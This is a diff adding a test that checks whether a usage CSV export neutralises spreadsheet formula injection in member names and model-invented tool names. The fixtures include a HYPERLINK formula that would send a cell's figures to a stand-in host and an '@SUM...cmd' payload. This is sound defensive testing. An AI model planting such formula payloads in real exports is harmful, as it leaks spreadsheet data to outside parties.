@@ -101,6 +101,32 @@ def test_the_page_and_its_csv(app, world, scripted, monkeypatch, login):
     assert browser.get("/settings/usage?days=7").status_code == 400
 
 
+def test_the_csv_keeps_names_that_look_like_formulas_as_text(
+    app, world, scripted, monkeypatch, login
+):
+    """A member's name or a tool name the model made up, opened in a spreadsheet, is text:
+    never a formula that sends the sheet's figures somewhere."""
+    configure(monkeypatch, app, CHAT_LLM_MODEL="claude-sonnet-4-5")
+    member = world.a.users["member"]
+    member.name = '=HYPERLINK("http://evil.test/?"&B2,"details")'
+    db.session.commit()
+    scripted.script.add(
+        [Say("Looking."), Call("@SUM(1+1)*cmd", {})],
+        [Say("Done.")],
+    )
+    assert send_message(world.a.principal("member"), SendInput(text="Go")).status == "done"
+    browser = login("admin@acme.test")
+    users = browser.get("/settings/usage.csv?days=30&table=users").get_data(as_text=True)
+    names = [row[0] for row in csv.reader(io.StringIO(users))][1:]
+    assert names == ["'" + member.name]
+    tools = browser.get("/settings/usage.csv?days=30&table=tools").get_data(as_text=True)
+    assert [row[0] for row in csv.reader(io.StringIO(tools))][1:] == ["'@SUM(1+1)*cmd"]
+    # Figures stay numbers, and the page shows the names as they are.
+    assert all(row[1].isdigit() for row in list(csv.reader(io.StringIO(users)))[1:])
+    page = BeautifulSoup(browser.get("/settings/usage").get_data(as_text=True), "html.parser")
+    assert member.name in page.select_one('table[data-usage-table="users"]').get_text()
+
+
 def test_members_cannot_see_the_orgs_usage_but_see_their_own(
     app, world, scripted, monkeypatch, login
 ):
